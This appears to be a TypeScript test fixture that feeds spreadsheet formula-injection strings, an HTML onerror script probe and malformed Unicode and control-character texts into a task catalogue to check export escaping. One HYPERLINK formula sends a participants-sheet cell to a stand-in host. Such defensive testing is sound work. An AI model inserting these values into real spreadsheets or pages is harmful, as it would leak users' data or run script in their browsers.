import { languageKeys } from "../../src/base/languages";
import { parseCatalogue, type Catalogue } from "../../src/catalogue/catalogue";
import { task23 } from "../../src/catalogue/task23";

/** Texts that a cell, a page or a calendar would take for something else. */
export const payloads = [
  "=1+1",
  '=HYPERLINK("http://x.example/"&Deltagere!A8,"Klik")',
  "+1",
  "-2-3",
  "@SUM(A1)",
  "＝1+1",
  "＋1",
  "\n=2+3",
  "\t=2+3",
  " =2+3",
  "'=1+1",
  "SAND",
  "true",
  "7.2",
  "1-2",
  "marts 2027",
  "1. maj",
  '<img src=x onerror="alert(1)">',
];

/** Texts that a file could break on, or give back as another text. */
export const filePayloads = [
  "a\uFFFEb\uFFFFc",
  "halv \uD800 og \uDC00",
  "a\u0001b\u000Bc\u001F",
  "_x000D_",
  "a_x0041_b",
  "_x005F_",
  "vogn\r\nretur",
  "linje\nskift",
  "  omgivet  ",
  "<b>&amp;\"'</b>",
  "]]>",
  "\u{1F600}",
  "x".repeat(200),
];

/** The task's catalogue with every text another of some. */
export function poisoned(texts: readonly string[]): Catalogue {
  let next = 0;
  const poison = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(poison);
    if (typeof value !== "object" || value === null) return value;
    const entries = Object.entries(value);
    const isText = languageKeys.every((language) => typeof (value as Record<string, unknown>)[language] === "string");
    const payload = texts[next % texts.length] ?? "";
    if (isText) next += 1;
    return Object.fromEntries(entries.map(([key, inner]) => [key, isText ? payload : poison(inner)]));
  };
  return parseCatalogue(poison(task23));
}
